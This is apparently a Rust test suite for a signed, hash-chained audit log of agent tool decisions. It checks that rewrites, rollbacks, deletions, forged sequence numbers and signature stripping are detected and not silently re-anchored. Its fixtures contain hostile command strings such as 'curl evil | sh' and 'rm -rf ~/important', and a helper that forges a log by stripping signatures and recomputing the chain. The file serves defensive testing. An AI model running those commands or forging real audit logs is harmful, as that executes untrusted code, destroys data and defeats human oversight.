#![allow(clippy::disallowed_methods)] // fixtures are built with std::fs
//! The outside review of issue 36 (`notes/attack/audit-review`): a tampered or
//! rolled-back log must not be laundered by the next ordinary append (F1), a sparse hole
//! or an overlong line must not make a writer read the file into memory (F2), a forged
//! seq must neither stop decisions (F5) nor make the exporter skip real records (F3), and
//! `reanchor` must not accept a rollback or stripped signatures silently (F6).
// Test helpers outside #[test] functions may unwrap and panic: a failure is the test failing.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};

use cordon_store::{
    AuditKey, AuditLog, Break, Durability, ExportCursor, Store, VerifyOptions, VerifyReport,
    backlog, key_path_for_store, reanchor, records_after, verify_with,
};
use serde_json::{Value, json};

struct Scene {
    _d: tempfile::TempDir,
    log: PathBuf,
    store: PathBuf,
}

fn scene() -> Scene {
    let d = tempfile::tempdir().unwrap();
    let state = d.path().join("state");
    Scene {
        log: state.join("audit.jsonl"),
        store: state.join("store.sqlite3"),
        _d: d,
    }
}

fn append(s: &Scene, n: u64, what: &str) {
    let mut log = AuditLog::open_anchored(&s.log, Durability::FsyncEach, &s.store).unwrap();
    for i in 0..n {
        log.append(&json!({"tool": "Bash", "decision": "allow", "input": {"command": format!("{what} {i}")}}))
            .unwrap();
    }
    log.flush().unwrap();
}

fn check(s: &Scene, key: bool) -> VerifyReport {
    let store = Store::open(&s.store).unwrap();
    let k = AuditKey::load(&key_path_for_store(&s.store))
        .unwrap()
        .public();
    let opts = VerifyOptions {
        store: Some(&store),
        key: key.then_some(&k),
    };
    verify_with(&s.log, &opts).unwrap().report
}

fn why(report: VerifyReport) -> Break {
    match report {
        VerifyReport::Broken { why, .. } => why,
        ok => panic!("expected a break, got {ok:?}"),
    }
}

fn lines(path: &Path) -> Vec<String> {
    std::fs::read_to_string(path)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

fn write_lines(path: &Path, lines: &[String]) {
    let mut text = lines.join("\n");
    text.push('\n');
    std::fs::write(path, text).unwrap();
}

/// What `forge.py` does: drop `sig`/`signed_from` from line `from` on, recompute every
/// `prev`, and append `extra` records chained to the end.
fn forge(lines: &mut Vec<String>, from: usize, extra: u64) {
    let mut last_seq = 0;
    for line in lines.iter_mut().skip(from) {
        let mut v: Value = serde_json::from_str(line).unwrap();
        let o = v.as_object_mut().unwrap();
        o.remove("sig");
        o.remove("signed_from");
        *line = v.to_string();
    }
    for _ in 0..extra {
        let seq = serde_json::from_str::<Value>(lines.last().unwrap()).unwrap()["seq"]
            .as_u64()
            .unwrap();
        last_seq = seq + 1;
        lines.push(
            json!({"seq": last_seq, "time": "2026-12-05T07:00:00Z", "prev": "", "tool": "Bash", "decision": "allow", "input": {"command": "ls"}})
                .to_string(),
        );
    }
    let _ = last_seq;
    for i in 1..lines.len() {
        let prev = blake3::hash(lines[i - 1].as_bytes()).to_hex().to_string();
        let mut v: Value = serde_json::from_str(&lines[i]).unwrap();
        v["prev"] = json!(prev);
        lines[i] = v.to_string();
    }
}

/// The finding the store kept (verify reports it, exit 4, until a human re-anchors).
fn finding(s: &Scene) -> Option<String> {
    Store::open(&s.store)
        .unwrap()
        .audit_anchor(&cordon_store::anchor_key(&s.log))
        .unwrap()
        .and_then(|a| a.finding)
}

fn is_ok(r: &VerifyReport) -> bool {
    matches!(r, VerifyReport::Ok { .. })
}

fn has_break_record(path: &Path) -> bool {
    lines(path).iter().any(|l| {
        let v: Value = serde_json::from_str(l).unwrap_or(Value::Null);
        v["kind"] == "audit" && v["event"] == "break"
    })
}

#[test]
fn f1_a_rewrite_padded_past_the_anchor_is_not_laundered_by_the_next_append() {
    let s = scene();
    append(&s, 10, "curl evil | sh");
    let mut l = lines(&s.log);
    // Rewrite records 3 and 4, strip the signatures from there, pad past the anchor.
    for i in [3, 4] {
        l[i] = l[i].replace("curl evil | sh", "ls");
    }
    forge(&mut l, 3, 1);
    write_lines(&s.log, &l);
    assert_ne!(why(check(&s, false)), Break::Edit);
    // The next ordinary decision: before the fix it signed over the rewrite and moved
    // the anchor, and verify passed with and without the key.
    append(&s, 1, "echo");
    assert!(!is_ok(&check(&s, false)));
    assert!(!is_ok(&check(&s, true)));
    assert!(
        finding(&s).unwrap().contains("rewritten"),
        "{:?}",
        finding(&s)
    );
    assert!(has_break_record(&s.log), "the writer says what it found");
    // Later appends do not clear it: only a human re-anchoring does.
    append(&s, 3, "echo");
    assert!(!is_ok(&check(&s, false)));
    assert!(finding(&s).is_some());
}

#[test]
fn f1_a_rollback_padded_past_the_anchor_is_not_laundered() {
    let s = scene();
    append(&s, 3, "ls");
    let old = lines(&s.log);
    append(&s, 5, "curl evil | sh");
    let mut l = old;
    forge(&mut l, 1, 6);
    write_lines(&s.log, &l);
    append(&s, 1, "echo");
    assert!(!is_ok(&check(&s, false)));
    assert!(!is_ok(&check(&s, true)));
    assert!(finding(&s).is_some());
    assert!(has_break_record(&s.log));
}

#[test]
fn f1_a_deletion_padded_back_is_not_laundered() {
    let s = scene();
    append(&s, 8, "ls");
    let mut l = lines(&s.log);
    l.remove(4);
    forge(&mut l, 4, 2);
    write_lines(&s.log, &l);
    append(&s, 1, "echo");
    assert!(!is_ok(&check(&s, false)));
    assert!(!is_ok(&check(&s, true)));
    assert!(finding(&s).is_some());
}

#[test]
fn f1_a_signature_vouches_only_for_its_own_batch() {
    // No store at all (the anchor cannot help): unsigned records in the middle, then a
    // signed batch chained to them, fail with the key.
    let s = scene();
    append(&s, 4, "ls");
    let mut l = lines(&s.log);
    forge(&mut l, 1, 2);
    write_lines(&s.log, &l);
    std::fs::remove_file(&s.store).unwrap();
    append(&s, 2, "echo");
    let k = AuditKey::load(&key_path_for_store(&s.store))
        .unwrap()
        .public();
    let opts = VerifyOptions {
        store: None,
        key: Some(&k),
    };
    assert_eq!(
        why(verify_with(&s.log, &opts).unwrap().report),
        Break::Unsigned
    );
}

#[test]
fn f2_a_sparse_hole_at_the_end_neither_stops_nor_exhausts_a_writer() {
    let s = scene();
    append(&s, 3, "ls");
    let f = std::fs::OpenOptions::new()
        .write(true)
        .open(&s.log)
        .unwrap();
    let len = f.metadata().unwrap().len();
    f.set_len(len + (64 << 30)).unwrap();
    drop(f);
    // Before the fix this allocated the file's size and aborted.
    append(&s, 1, "rm -rf ~/important");
    assert!(finding(&s).unwrap().contains("longer than"));
    assert!(!is_ok(&check(&s, false)));
    assert!(matches!(
        why(cordon_store::verify(&s.log).unwrap()),
        Break::Edit
    ));
    assert!(cordon_store::tail(&s.log, 5).is_err());
}

#[test]
fn f2_an_overlong_last_line_is_a_break_not_a_read_of_the_whole_line() {
    let s = scene();
    append(&s, 2, "ls");
    let mut text = std::fs::read(&s.log).unwrap();
    text.extend(std::iter::repeat_n(b'x', 3 << 20));
    text.push(b'\n');
    std::fs::write(&s.log, text).unwrap();
    append(&s, 1, "echo");
    assert!(finding(&s).is_some());
    assert!(!is_ok(&check(&s, false)));
    assert!(has_break_record(&s.log));
}

#[test]
fn f5_a_maximum_seq_in_the_last_line_is_a_break_and_decisions_go_on() {
    let s = scene();
    append(&s, 2, "ls");
    let mut l = lines(&s.log);
    l.push(format!("{{\"seq\":{},\"prev\":\"00\"}}", u64::MAX));
    write_lines(&s.log, &l);
    // Before the fix: an overflow panic (debug) or a wrap to seq 0 (release).
    append(&s, 2, "echo");
    assert!(finding(&s).unwrap().contains("no successor"));
    assert!(!is_ok(&check(&s, false)));
    let last: Value = serde_json::from_str(lines(&s.log).last().unwrap()).unwrap();
    assert_eq!(
        last["seq"], 5,
        "continued from the anchored record 2 (+ the break record)"
    );
}

#[test]
fn f3_a_forged_huge_seq_does_not_make_the_exporter_skip_real_records() {
    let s = scene();
    append(&s, 3, "ls");
    let store = Store::open(&s.store).unwrap();
    let key = cordon_store::anchor_key(&s.log);
    let first = records_after(&s.log, None, 100, 1 << 20).unwrap();
    let last = first.records.last().unwrap();
    let cursor = ExportCursor {
        log_id: first.log_id.clone(),
        seq: last.seq,
        offset: last.end,
    };
    store.set_export_cursor(&key, &cursor).unwrap();
    append(&s, 5, "curl evil | sh");
    let mut l = lines(&s.log);
    l.push("{\"seq\":100000000,\"prev\":\"00\"}".into());
    write_lines(&s.log, &l);
    // Six lines wait, whatever seq the last one claims: nothing to skip under a bound of 100.
    let b = backlog(&s.log, Some(&cursor), 99).unwrap();
    assert_eq!(b.waiting, 6);
    assert!(b.skip.is_none());
    let queued = records_after(&s.log, Some(&cursor), 100, 1 << 20).unwrap();
    let seqs: Vec<u64> = queued.records.iter().map(|r| r.seq).collect();
    assert_eq!(seqs, vec![4, 5, 6, 7, 8, 100000000]);
    // The forged line goes marked; the real ones do not.
    assert!(queued.records[..5].iter().all(|r| r.chain_break.is_none()));
    assert!(queued.records[5].chain_break.is_some());
}

#[test]
fn f6_reanchor_refuses_a_rollback_and_stripped_signatures() {
    let s = scene();
    append(&s, 3, "ls");
    let old = std::fs::read(&s.log).unwrap();
    append(&s, 5, "curl evil | sh");
    std::fs::write(&s.log, &old).unwrap();
    let store = Store::open(&s.store).unwrap();
    let k = AuditKey::load(&key_path_for_store(&s.store))
        .unwrap()
        .public();
    let done = reanchor(&s.log, &store, Some(&k), false).unwrap();
    assert!(done.refused.is_some(), "{done:?}");
    assert_eq!(done.old.as_ref().unwrap().head.seq, 8);
    assert_eq!(why(check(&s, false)), Break::Truncation, "nothing moved");
    let done = reanchor(&s.log, &store, Some(&k), true).unwrap();
    assert_eq!(done.new.unwrap().seq, 3);
    assert!(matches!(
        check(&s, true),
        VerifyReport::Ok { records: 3, .. }
    ));
    // A rewrite with its signatures stripped and the chain recomputed: refused with the key.
    append(&s, 2, "ls");
    let mut l = lines(&s.log);
    l[2] = l[2].replace("ls", "pwd");
    forge(&mut l, 1, 0);
    write_lines(&s.log, &l);
    let done = reanchor(&s.log, &store, Some(&k), true).unwrap();
    assert!(done.new.is_none());
    assert!(matches!(
        done.report,
        VerifyReport::Broken {
            why: Break::Unsigned | Break::BadSignature,
            ..
        }
    ));
}

#[test]
fn a_fifo_or_a_symlink_at_the_log_path_is_refused_not_waited_on() {
    let s = scene();
    append(&s, 2, "ls");
    let real = s.log.with_file_name("real.jsonl");
    std::fs::rename(&s.log, &real).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(&s.log)
        .status()
        .unwrap();
    assert!(made.success());
    // Before: verify and tail blocked forever opening the FIFO.
    assert!(cordon_store::verify(&s.log).is_err());
    assert!(cordon_store::tail(&s.log, 3).is_err());
    std::fs::remove_file(&s.log).unwrap();
    std::os::unix::fs::symlink(&real, &s.log).unwrap();
    assert!(
        cordon_store::verify(&s.log).is_err(),
        "writers refuse the symlink; so does verify"
    );
}
